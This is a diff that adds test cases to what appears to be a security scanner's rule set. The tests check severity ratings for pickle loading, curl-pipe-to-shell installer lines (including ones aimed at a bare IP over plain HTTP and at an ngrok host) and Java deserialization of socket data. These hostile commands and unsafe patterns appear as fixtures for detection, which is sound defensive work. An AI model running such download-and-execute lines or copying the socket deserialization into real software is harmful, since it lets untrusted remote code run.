@@ -86,3 +86,31 @@ def test_pickle_of_what_the_class_stored_itself_is_low_of_request_data_it_stored
             "    def pop(self):\n"
             "        return pickle.loads(self._items.pop())\n")
     assert _by_line("pickle-load", "cache.py", text) == {9: "low", 16: "critical"}
+
+
+def test_installer_line_in_documentation_is_medium_a_bare_address_or_plain_http_stays_critical():
+    text = ("# Install\n\n```sh\n"
+            "curl -fsSL https://get.example.dev/install.sh | sh\n"
+            "curl -fsSL http://203.0.113.7/install.sh | sh\n"
+            "curl -fsSL https://abc.ngrok.io/i.sh | bash\n"
+            "```\n")
+    assert _by_line("sh-download-exec", "INSTALL.md", text) == {4: "medium", 5: "critical", 6: "critical"}
+    script = "#!/bin/sh\ncurl -fsSL https://get.example.dev/install.sh | sh\n"
+    assert _by_line("sh-download-exec", "scripts/setup.sh", script) == {2: "critical"}
+
+
+def test_java_deserialization_round_trip_in_a_test_is_low_socket_data_or_main_code_stays_high():
+    text = ("import java.io.*;\n"
+            "import java.net.Socket;\n"
+            "class OrderTest {\n"
+            "  void roundTrip(Order o) throws Exception {\n"
+            "    ByteArrayOutputStream bos = new ByteArrayOutputStream();\n"
+            "    new ObjectOutputStream(bos).writeObject(o);\n"
+            "    Object back = new ObjectInputStream(new ByteArrayInputStream(bos.toByteArray())).readObject();\n"
+            "  }\n"
+            "  void remote(Socket s) throws Exception {\n"
+            "    Object o = new ObjectInputStream(s.getInputStream()).readObject();\n"
+            "  }\n"
+            "}\n")
+    assert _by_line("java-unsafe-deserialization", "src/test/java/OrderTest.java", text) == {7: "low", 10: "high"}
+    assert _by_line("java-unsafe-deserialization", "src/main/java/Order.java", text) == {7: "high", 10: "high"}
